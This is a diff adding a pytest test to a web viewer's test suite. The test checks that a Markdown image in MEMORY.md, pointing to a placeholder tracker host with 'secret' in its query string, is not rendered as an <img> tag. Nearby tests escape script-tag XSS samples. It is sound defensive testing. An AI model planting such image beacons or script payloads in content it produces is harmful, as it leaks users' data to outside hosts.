@@ -191,6 +191,18 @@ async def test_hostile_text_is_escaped(ds, memory):
     assert "&lt;script&gt;alert(2)&lt;/script&gt;" in md
 
 
+@pytest.mark.asyncio
+async def test_memory_md_images_load_nothing(ds, memory):
+    """A Markdown image in MEMORY.md would make the viewer's browser call the URL."""
+    store, db_path = memory
+    md = store.memory_md.read_text()
+    store.write_memory_md(md + "\n![beacon](https://tracker.example.invalid/p.png?d=secret)\n")
+    import_store(store, db_path, now=NOW)
+    html = (await ds.client.get(PAGE, cookies=root(ds))).text
+    assert "beacon" in html
+    assert not re.search(r"<img[^>]*src=[^>]*tracker\.example\.invalid", html)
+
+
 def test_code_spans_escape_first():
     assert page.code_spans("run `make <b>` now") == "run <code>make &lt;b&gt;</code> now"
     assert page.code_spans("`<script>`") == "<code>&lt;script&gt;</code>"
